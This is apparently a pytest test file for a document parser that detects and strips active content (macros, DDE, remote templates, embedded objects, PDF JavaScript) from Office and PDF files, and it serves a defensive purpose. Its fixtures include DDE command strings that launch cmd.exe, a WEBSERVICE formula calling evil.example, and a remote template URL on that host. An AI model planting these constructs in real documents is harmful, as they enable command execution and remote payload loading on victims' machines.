from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from ingest.parse import detect, parse
from ingest.parse.active_content import active_content
from tests.ingest import samples

_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO cmd.exe "/k calc" '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_CELLS = (
    '<row r="3"><c r="A3"><f>SUM(1,2)</f><v>3</v></c><c r="B3" t="str"><f>cmd|\'/c calc\'!A0</f><v>5</v></c></row>'
    '<row r="4"><c r="A4"><f>WEBSERVICE("http://evil.example/")</f></c></row>'
)
_TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
_LINK = _TEMPLATE.replace("attachedTemplate", "hyperlink")


def edited(data: bytes, parts: dict[str, str | bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        return samples.archive({**{name: file.read(name) for name in file.namelist()}, **parts})


def workbook(cells: str = "", **parts: str | bytes) -> bytes:
    made = samples.xlsx({"S": [["Fee", "Hours"], ["a", "b"]]})
    with zipfile.ZipFile(io.BytesIO(made)) as file:
        sheet = file.read("xl/worksheets/sheet1.xml").decode().replace("</sheetData>", f"{cells}</sheetData>")
    named = {
        name.replace("__", "/").replace("_bin", ".bin").replace("_xml", ".xml"): part for name, part in parts.items()
    }
    return edited(made, {"xl/worksheets/sheet1.xml": sheet, **named})


class TestFormulas:
    def test_are_read_as_the_values_they_had(self) -> None:
        document = parse(workbook(_CELLS), "fees.xlsx")
        assert "| 3 | 5 |" in document.text
        for word in ("SUM", "cmd", "WEBSERVICE", "evil"):
            assert word not in document.text


class TestMacros:
    @pytest.mark.parametrize(
        ("data", "name"),
        [
            (workbook(xl__vbaProject_bin=b"\xd0\xcf\x11\xe0 Auto_Open Shell"), "fees.xlsm"),
            (edited(samples.docx(samples.paragraph("Hours")), {"word/vbaProject.bin": b"\xd0\xcf AutoOpen"}), "a.docm"),
            (workbook(xl__macrosheets__sheet1_xml="<xm:macrosheet/>"), "fees.xlsm"),
        ],
    )
    def test_are_left_out_and_told_of(self, data: bytes, name: str) -> None:
        document = parse(data, name)
        assert document.metadata["active_content"] == ["macros"]
        assert "open" not in document.text.lower()

    def test_of_old_formats_are_told_of(self) -> None:
        data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le")
        assert active_content(data, detect.XLS) == ["macros"]


class TestLinks:
    def test_dde_fields_are_told_of_and_only_what_they_showed_is_read(self) -> None:
        document = parse(samples.docx(samples.paragraph("Hours") + _FIELD), "a.docx")
        assert document.metadata["active_content"] == ["dde"]
        assert "shown" in document.text
        assert "cmd" not in document.text

    def test_templates_and_links_to_elsewhere_are_told_of_and_not_followed(self) -> None:
        plain = samples.docx(samples.paragraph("Hours"))
        assert active_content(edited(plain, {"word/_rels/settings.xml.rels": _TEMPLATE}), detect.DOCX) == [
            "remote_template"
        ]
        assert active_content(edited(plain, {"word/_rels/x.xml.rels": _LINK}), detect.DOCX) == []
        linked = workbook(
            xl__externalLinks__externalLink1_xml="<externalLink><ddeLink ddeService='cmd'/></externalLink>"
        )
        assert active_content(linked, detect.XLSX) == ["dde"]

    def test_embedded_objects_are_told_of(self) -> None:
        data = edited(samples.docx(samples.paragraph("Hours")), {"word/embeddings/oleObject1.bin": b"MZ"})
        assert parse(data, "a.docx").metadata["active_content"] == ["embedded_objects"]

    def test_scripts_of_a_pdf_are_told_of(self) -> None:
        data = samples.pdf([[(50, 700, 12, "Nine to five.")]]).replace(
            b"/Type /Catalog", b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Type /Catalog"
        )
        document = parse(data, "a.pdf")
        assert document.metadata["active_content"] == ["scripts"]
        assert document.text == "Nine to five."


class TestMostFiles:
    @pytest.mark.parametrize(
        ("data", "name"),
        [(samples.docx(samples.paragraph("Hours")), "a.docx"), (workbook(), "a.xlsx"), (samples.pptx(["Hours"]), "a.pptx"),
         (samples.pdf([[(50, 700, 12, "Hours")]]), "a.pdf"), (b"Hours", "a.txt")],
    )  # fmt: skip
    def test_have_none(self, data: bytes, name: str) -> None:
        assert "active_content" not in parse(data, name).metadata

    def test_a_damaged_file_is_not_looked_into(self, tmp_path: Path) -> None:
        assert active_content(b"PK\x03\x04 nothing", detect.DOCX) == []
